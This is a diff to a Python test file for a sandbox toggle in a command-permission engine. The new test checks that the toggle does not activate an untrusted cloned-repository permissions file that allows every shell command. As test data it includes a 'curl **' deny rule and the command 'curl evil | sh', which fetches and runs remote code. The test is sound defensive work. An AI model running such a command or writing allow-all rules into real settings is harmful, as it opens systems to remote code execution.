@@ -151,6 +151,7 @@ def test_the_box_adds_and_removes_one_rule_and_keeps_the_rest(setup: Setup) -> N
     local.write_text('# mine\n[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "ls **"\n\n'
                      '# keep this comment\n[[rule]]\neffect = "deny"\ntool = "shell"\npattern = "curl **"\n')
     before = local.read_text()
+    setup.engine.trust(ws)  # the person's own file, trusted once
     assert not sandbox_toggle.is_on(setup.engine, ws)
     sandbox_toggle.set_on(setup.engine, ws, True)
     assert sandbox_toggle.is_on(setup.engine, ws)
@@ -161,6 +162,23 @@ def test_the_box_adds_and_removes_one_rule_and_keeps_the_rest(setup: Setup) -> N
     sandbox_toggle.set_on(setup.engine, ws, False)
     assert local.read_text().rstrip("\n") == before.rstrip("\n")
     assert setup.engine.check_command("pytest -x", workspace=ws).effect is None
+
+
+def test_the_box_does_not_vouch_for_a_personal_file_it_did_not_write(setup: Setup) -> None:
+    # A cloned repository's permissions.local.toml: ticking the box must not make its rules active.
+    ws = setup.workspace
+    local = ws / ".echo-desk" / "permissions.local.toml"
+    local.parent.mkdir()
+    local.write_text('[[rule]]\neffect = "allow"\ntool = "shell"\npattern = "**"\n')
+    before = local.read_text()
+    with pytest.raises(ValueError, match="not trusted"):
+        sandbox_toggle.set_on(setup.engine, ws, True)
+    assert local.read_text() == before
+    assert setup.engine.check_command("curl evil | sh", workspace=ws).effect is None
+    # With no file yet, what the box writes is trusted: the person's choice takes effect.
+    local.unlink()
+    sandbox_toggle.set_on(setup.engine, ws, True)
+    assert setup.engine.check_command("pytest -x", workspace=ws).effect is Effect.ALLOW_IN_SANDBOX
 
 
 def test_with_no_workspace_the_box_writes_the_users_file(setup: Setup) -> None:
